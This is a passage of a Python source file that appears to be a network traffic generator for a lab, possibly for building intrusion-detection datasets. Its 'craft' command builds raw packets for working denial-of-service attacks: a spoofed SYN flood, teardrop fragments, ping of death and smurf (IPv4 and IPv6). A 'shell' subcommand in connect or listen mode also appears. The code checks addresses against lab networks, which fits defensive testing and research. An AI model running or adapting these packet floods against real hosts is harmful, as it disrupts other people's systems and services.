    src: str, dst: str, proto: int, payload_len: int, ident: int, frag_off: int = 0, mf: bool = False, ttl: int = 64
) -> bytes:
    flags_frag = (0x2000 if mf else 0) | (frag_off // 8)
    h = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + payload_len,
        ident,
        flags_frag,
        ttl,
        proto,
        0,
        socket.inet_aton(src),
        socket.inet_aton(dst),
    )
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


def raw4() -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    return s


def pace(i: int, t0: float, interval: float) -> None:
    d = t0 + i * interval - time.time()
    if d > 0:
        time.sleep(d)


def cmd_craft(a: argparse.Namespace) -> None:
    rng = random.Random(a.seed)
    dst = lab_addr(a.dst)
    t0 = time.time()
    if a.kind == "synflood":
        net = ipaddress.IPv4Network(a.spoof)
        assert any(net.subnet_of(n) for n in LAB_NETS if isinstance(n, ipaddress.IPv4Network)), (
            "spoof range must be inside the lab"
        )
        hosts = [str(h) for h in net.hosts()]
        s = raw4()
        for i in range(a.count):
            src = rng.choice(hosts)
            sport, seq = rng.randint(1024, 65535), rng.getrandbits(32)
            opts = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" + b"\x01\x01" + b"\x01\x03\x03\x07"
            off = (20 + len(opts)) // 4
            tcp = struct.pack("!HHIIBBHHH", sport, a.dport, seq, 0, off << 4, 0x02, 64240, 0, 0) + opts
            pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
            s.sendto(ip4hdr(src, dst, 6, len(tcp), rng.getrandbits(16), ttl=rng.choice((64, 128, 255))) + tcp, (dst, 0))
            pace(i, t0, a.interval)
    elif a.kind == "teardrop":
        # classic teardrop: a UDP datagram in two fragments whose second one overlaps the first and is too short
        src = lab_addr(a.src)
        s = raw4()
        for i in range(a.count):
            ident = rng.getrandbits(16)
            size = rng.choice((28, 36, 56))
            udp = struct.pack("!HHHH", rng.randint(1024, 65535), a.dport, 8 + size, 0) + os.urandom(size)
            s.sendto(ip4hdr(src, dst, 17, len(udp), ident, 0, True) + udp, (dst, 0))
            tail = os.urandom(rng.choice((2, 4, 8)))
            s.sendto(ip4hdr(src, dst, 17, len(tail), ident, 8 * rng.choice((1, 2, 3)), False) + tail, (dst, 0))
            pace(i, t0, a.interval)
    elif a.kind == "pod":
        # ping of death: an ICMP echo request whose fragments reassemble to more than 65535 bytes
        src = lab_addr(a.src)
        s = raw4()
        frag = 1480
        for i in range(a.count):
            ident = rng.getrandbits(16)
            total = 65_540 + rng.randint(0, 400)
            payload = b"\x00" * (total - 8)
            icmp = struct.pack("!BBHHH", 8, 0, 0, ident, i) + payload
            icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
            off = 0
            while off < len(icmp):
                chunk = icmp[off : off + frag]
                last = off + frag >= len(icmp)
                s.sendto(ip4hdr(src, dst, 1, len(chunk), ident, off, not last) + chunk, (dst, 0))
                off += frag
            pace(i, t0, a.interval)
    elif a.kind == "smurf":
        victim = lab_addr(a.src)
        s = raw4()
        for i in range(a.count):
            icmp = struct.pack("!BBHHH", 8, 0, 0, rng.getrandbits(16), i) + os.urandom(a.size)
            icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
            s.sendto(ip4hdr(victim, dst, 1, len(icmp), rng.getrandbits(16)) + icmp, (dst, 0))
            pace(i, t0, a.interval)
    elif a.kind == "smurf6":
        victim = lab_addr(a.src)
        ifindex = socket.if_nametoindex(a.iface)
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        for i in range(a.count):
            body = struct.pack("!BBHHH", 128, 0, 0, rng.getrandbits(16), i) + os.urandom(a.size)
            src_b, dst_b = socket.inet_pton(socket.AF_INET6, victim), socket.inet_pton(socket.AF_INET6, dst)
            pseudo = src_b + dst_b + struct.pack("!I3xB", len(body), 58)
            body = body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]
            hdr = struct.pack("!IHBB", 6 << 28, len(body), 58, 64) + src_b + dst_b
            s.sendto(hdr + body, (dst, 0, 0, ifindex))
            pace(i, t0, a.interval)
    else:
        raise SystemExit(f"unknown kind {a.kind}")


def main() -> None:
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    q = sub.add_parser("inetd")
    q.add_argument("--port", type=int, required=True)
    q.add_argument("argv", nargs="+")
    q = sub.add_parser("smtpd")
    q.add_argument("--port", type=int, default=25)
    q.add_argument("--name", default="mail.lab")
    q.add_argument("--user", required=True)
    q.add_argument("--password", required=True)
    q.add_argument("--maildir")
    q = sub.add_parser("webapp")
    q.add_argument("--bind", default="127.0.0.1")
    q.add_argument("--port", type=int, default=8080)
    q.add_argument("--user", required=True)
    q.add_argument("--password", required=True)
    q = sub.add_parser("sntp")
    q.add_argument("--server", required=True)
    q.add_argument("--count", type=int, default=1)
    q.add_argument("--interval", type=float, default=1.0)
    q = sub.add_parser("mail")
    q.add_argument("--proto", choices=("pop3", "imap", "smtp"), required=True)
    q.add_argument("--host", required=True)
    q.add_argument("--user", required=True)
    q.add_argument("--password", default="")
    q.add_argument("--max", type=int, default=3)
    q = sub.add_parser("persist")
    q.add_argument("--proto", choices=("http", "https", "imap"), required=True)
    q.add_argument("--host", required=True)
    q.add_argument("--port", type=int, required=True)
    q.add_argument("--seconds", type=float, required=True)
    q.add_argument("--gap-min", type=float, default=2.0)
    q.add_argument("--gap-max", type=float, default=30.0)
    q.add_argument("--end", choices=("fin", "rst", "hang"), default="fin")
    q.add_argument("--paths", default="/", help="comma-separated paths (http, https)")
    q.add_argument("--vhost", default="www.lab", help="the Host header (http, https)")
    q.add_argument("--user", default="")
    q.add_argument("--password", default="")
    q.add_argument("--seed", type=int, default=0)
    q = sub.add_parser("telnet")
    q.add_argument("--host", required=True)
    q.add_argument("--port", type=int, default=23)
    q.add_argument("--user", required=True)
    q.add_argument("--password", required=True)
    q.add_argument("--commands", required=True, help="';;'-separated command lines")
    q.add_argument("--typing", action="store_true")
    q = sub.add_parser("shell")
    q.add_argument("--mode", choices=("connect", "listen"), required=True)
    q.add_argument("--host", required=True)
    q.add_argument("--port", type=int, required=True)
    q.add_argument("--wait", type=float, default=20)
    q.add_argument("--commands", required=True)
    q = sub.add_parser("craft")
    q.add_argument("kind")
    q.add_argument("--dst", required=True)
    q.add_argument("--src", default="")
    q.add_argument("--spoof", default="")
    q.add_argument("--dport", type=int, default=80)
    q.add_argument("--count", type=int, default=100)
    q.add_argument("--interval", type=float, default=0.001)
    q.add_argument("--size", type=int, default=56)
    q.add_argument("--iface", default="eth0")
    q.add_argument("--seed", type=int, default=0)
    q = sub.add_parser("chatter")
    q.add_argument("kind", choices=("netbios", "llmnr", "mdns", "ssdp"))
    q.add_argument("--src", required=True)
    q.add_argument("--bcast", default="", help="the segment's broadcast address (netbios)")
    q.add_argument("--names", default="fileserver,printer,wpad")
    q.add_argument("--count", type=int, default=2)
    q.add_argument("--iface", default="eth0")
    q.add_argument("--seed", type=int, default=0)
    q = sub.add_parser("udpd")
    q.add_argument("--addrs", default="", help="comma-separated addresses to serve 443 on, one socket each")
    q.add_argument("--seed", type=int, default=0)
    q = sub.add_parser("quic")
    q.add_argument("--host", required=True)
    q.add_argument("--port", type=int, default=443)
    q.add_argument("--objects", type=int, default=3)
    q.add_argument("--size-mu", type=float, default=9.5, help="log of the median object size in bytes")
    q.add_argument("--max-kb", type=int, default=4096)
    q.add_argument("--think", type=float, default=1.0, help="mean seconds between objects")
    q.add_argument("--idle", type=float, default=10.0, help="most seconds idle before the close")
    q.add_argument("--seed", type=int, default=0)
    q = sub.add_parser("call")
    q.add_argument("--host", required=True)
    q.add_argument("--seconds", type=float, default=30)
    q.add_argument("--video", type=float, default=0.3, help="probability of a video call")
    q.add_argument("--seed", type=int, default=0)
    a = p.parse_args()
    {
        "inetd": cmd_inetd,
        "smtpd": cmd_smtpd,
        "webapp": cmd_webapp,
        "sntp": cmd_sntp,
        "mail": cmd_mail,
        "persist": cmd_persist,
        "telnet": cmd_telnet,
        "shell": cmd_shell,
        "craft": cmd_craft,
        "chatter": cmd_chatter,
        "udpd": cmd_udpd,
        "quic": cmd_quic,
        "call": cmd_call,
    }[a.cmd](a)


if __name__ == "__main__":
    main()
